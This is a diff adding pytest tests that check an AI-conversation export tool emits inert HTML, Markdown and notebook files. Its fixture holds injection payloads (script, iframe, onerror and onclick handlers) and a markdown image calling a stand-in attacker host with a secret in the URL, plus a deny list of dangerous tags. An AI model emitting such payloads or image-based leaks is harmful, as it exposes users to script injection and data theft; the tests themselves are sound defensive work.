@@ -144,3 +144,57 @@ def test_export_errors(tmp_path):
         export(turn_events()[:2], tmp_path / "x.md")
     with pytest.raises(ExportError, match="Cannot export a int"):
         export(3, tmp_path / "x.md")
+
+
+HOSTILE = ("Look ![chart](https://evil.example/p.png?leak=SECRET) and ![r][ref] <img src=x\n"
+           "onerror=alert(2)> then `<code ok>`\n\n<script>alert(1)</script>\n\n<iframe src=https://evil.example>"
+           "</iframe>\n\n> <a onclick=alert(4) href=x>q</a>\n\n[ref]: http://evil.example/q.png\n")
+
+
+def _permissive(markdown: str) -> str:
+    """What a renderer that allows raw HTML (Jupyter, an editor's preview) makes of the source."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).render(markdown)
+
+
+def _assert_inert(page: str, allowed=("data:",)) -> None:
+    from html_checks import tags_of
+
+    tags = tags_of(page)
+    names = {t for t, _ in tags}
+    assert not names & {"script", "iframe", "object", "embed", "link", "style", "base", "meta"}, names
+    for tag, attrs in tags:
+        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
+        for key in ("src", "srcset", "poster", "background"):
+            value = attrs.get(key)
+            assert value is None or value.startswith(allowed), (tag, attrs)  # nothing loads from the network
+    assert "SECRET" not in " ".join(str(a.get("src")) for _, a in tags)
+
+
+@pytest.mark.parametrize("fmt", ["html", "md", "ipynb"])
+def test_exports_are_inert(tmp_path, fmt):
+    path = export(_events(answer=HOSTILE), tmp_path / f"conv.{fmt}")
+    if fmt == "html":
+        _assert_inert(path.read_text().split("</style>", 1)[1])
+        page = path.read_text()
+    elif fmt == "md":
+        page = _permissive(path.read_text())
+        _assert_inert(page)
+    else:
+        nb = nbformat.read(path, as_version=4)
+        page = "".join(_permissive(c.source) for c in nb.cells if c.cell_type == "markdown")
+        _assert_inert(page, allowed=("data:", "attachment:"))
+    assert "evil.example/p.png?leak=SECRET" in page  # still there, as a link the reader may follow
+    assert "alert(1)" in page  # the hostile text shows as text
+
+
+def test_md_provenance_comment_cannot_be_closed_by_its_content(tmp_path):
+    from nb_agents.record.writers import write_markdown
+
+    path = tmp_path / "x.md"
+    write_markdown([], path, title="t", metadata={"nb_agents": {"prompt": "x ---><script>alert(1)</script>"}})
+    text = path.read_text()
+    comment = text[text.index("<!--"):]
+    assert comment.count("-->") == 1 and comment.rstrip().endswith("-->")
+    assert json.loads(comment[len("<!-- nb_agents provenance\n"):-len("\n-->\n")])["nb_agents"]["prompt"].startswith("x --")
